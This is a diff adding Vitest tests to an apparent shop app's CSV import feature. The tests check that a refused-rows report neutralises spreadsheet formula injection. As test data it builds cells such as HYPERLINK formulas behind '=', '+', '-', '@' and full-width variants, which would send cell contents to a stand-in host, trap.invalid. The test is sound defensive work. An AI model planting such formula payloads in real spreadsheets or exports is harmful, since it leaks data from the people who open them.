@@ -1,4 +1,6 @@
+import { globSync, readFileSync } from "node:fs";
 import { readFile } from "node:fs/promises";
+import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, it } from "vitest";
 import { forJob, fromAdmin } from "../../app/authenticate.server";
 import type { Ctx } from "../../app/context";
@@ -310,6 +312,36 @@ describe("bad input", () => {
     ]);
     // A sign before a name makes no other carrier of it.
     expect(answer.providers.map(({ name }) => name).sort()).toEqual(["Größe & Söhne", "Lotus"]);
+  });
+
+  it("writes no cell into its report that a spreadsheet takes for a formula", async () => {
+    const shop = await installedShop();
+    const ctx = await worker(shop);
+    const begins = ["=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20"];
+    const formulas = begins.map((sign) => `${sign}HYPERLINK("https://trap.invalid/"&A1,"x")`);
+    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+    const rows = formulas.map((formula, at) => [`${at}`, formula].map(quoted).join(","));
+    const { id } = await takeIn(ctx, ["Order,=Promised", ...rows].join("\n"));
+    const columns = { externalId: "Order", promisedOn: "=Promised" };
+    expect(await mapImport(ctx, id, { columns, dateFormats: ["YYYY-MM-DD"] })).toMatchObject({ ok: true });
+    await runJobs();
+    const staff = await fromAdmin(adminRequest(shop, "/app"), "history.import");
+    const parts: Uint8Array[] = [];
+    for await (const part of (await refusedReport(staff, id)) ?? []) parts.push(part);
+    const cells = (parse(Buffer.concat(parts), { bom: true }) as string[][]).flat();
+    // All of them are in it, each behind something that makes it text.
+    for (const formula of formulas) expect(cells.some((cell) => cell.endsWith(formula.trim()))).toBe(true);
+    expect(cells.filter((cell) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
+  });
+
+  it("is the one part of the app that writes a file for spreadsheets", () => {
+    const writers = globSync("app/**/*.{ts,tsx}").filter((one) =>
+      /csv-stringify|text\/csv|papaparse/.test(readFileSync(one, "utf8")),
+    );
+    expect(writers.toSorted()).toEqual([
+      "app/providers/import-queries.server.ts",
+      "app/routes/app.providers.history.refused.tsx",
+    ]);
   });
 
   it("reads a file in UTF-16, whatever is cut where it arrives in pieces", async () => {
